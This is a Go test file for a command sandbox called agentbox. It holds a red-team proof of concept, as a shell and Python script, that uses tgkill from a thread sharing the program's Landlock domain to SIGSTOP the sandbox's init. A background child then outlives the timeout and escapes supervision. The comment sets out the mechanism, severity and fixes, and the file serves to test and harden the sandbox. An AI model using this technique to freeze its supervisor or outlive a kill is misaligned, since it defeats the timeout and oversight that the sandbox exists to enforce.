//go:build linux

package agentbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// rt26StopInit is a script for the reduced tier: it starts a background
// sleep (its pid in $PIDS), then signals its init ($PPID) thread by
// thread with tgkill, and prints which threads took the signal. With
// SIG=0 it only asks (the control); SIG=19 (SIGSTOP) stops the init.
const rt26StopInit = `sleep 20 </dev/null >/dev/null 2>&1 & echo $! >>"$PIDS"
python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
ppid = int(sys.argv[1]); sig = int(sys.argv[2])
print("kill", libc.kill(ppid, 0), ctypes.get_errno())
for tid in sorted(os.listdir("/proc/%d/task" % ppid), key=int):
    r = libc.syscall(234, ppid, int(tid), sig)
    print("tgkill", tid, r, ctypes.get_errno())
' "$PPID" "$SIG" >>"$PIDS.log" 2>&1
sleep 20`

// TestRedteam26ReducedTierStopInit: in the reduced tier the init keeps the
// thread that forked the program alive (startLocked, for the program's
// parent-death signal), and that thread carries the program's own Landlock
// domain and runs as the same user. Landlock's signal scoping (ABI >= 6)
// allows signals within a domain, and tgkill(2) checks the target thread,
// not the thread-group leader; seccomp does not restrict tgkill in the
// tier. So the program sends SIGSTOP to its init through that thread
// (kill(2) of the init's pid is refused: the leader is outside the
// domain), and the whole init stops. The command's timeout then cannot be
// carried out by the init (msgKill): the caller waits out killGrace (~7 s
// past the timeout instead of milliseconds) and SIGKILLs the init, and
// the program's ordinary background child (same process group, no
// setsid), which the init would have ended, is orphaned and outlives the
// run, with agentbox still alive. The control: the same script with
// signal 0 (only asking) leaves no survivor and returns at the timeout.
//
// Why it matters: invariant 6 (kill means gone: the whole process tree,
// within milliseconds) and the README's claim that in the reduced tier "a
// process that left the program's group outlives the command only when
// agentbox itself dies". A hostile command keeps running code on the host
// (as the user, still under Landlock/seccomp) after the caller believes it
// ended, and the program can also freeze its init at will (SIGSTOP/SIGCONT,
// or SIGKILL it).
//
// Severity: medium (reduced tier only; the survivor keeps its
// restrictions but is no longer bounded by the timeout or watched).
//
// Fix: the thread kept for pdeathsig must not share the program's domain:
// e.g. fork the program from a thread that then exits and arrange
// parent-death another way (the init as a subreaper polls, or a pidfd), or
// have seccomp restrict tgkill/tkill/rt_tgsigqueueinfo to the caller's own
// thread group in the reduced tier (as it does for prlimit64), or keep the
// thread but add a nested Landlock domain for the program only (restrict
// again in the child before exec), so the init's thread is outside it.
func TestRedteam26ReducedTierStopInit(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("the reduced tier refuses callers that are root over the host's files")
	}
	for _, c := range []struct {
		name string
		sig  string
	}{
		{"control: ask", "0"},
		{"stop", "19"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := rt9Scenario{"exec", "SIG=" + c.sig + "; " + rt26StopInit, 1500 * time.Millisecond}
			dir := hostDir(t)
			o := rt10RunReduced(t, dir, s)
			log, _ := os.ReadFile(filepath.Join(dir, "pids.log"))
			t.Logf("signals: %s", log)
			if !strings.Contains(string(log), "tgkill") {
				t.Fatalf("the script did not run")
			}
			if len(o.Alive) > 0 {
				t.Errorf("ESCAPE: the command's background child %v outlived the run (%d ms, timeout %v)", o.Alive, o.Millis, s.Timeout)
			} else if o.Millis > 4000 {
				t.Errorf("the run took %d ms past a timeout of %v", o.Millis, s.Timeout)
			}
		})
	}
}
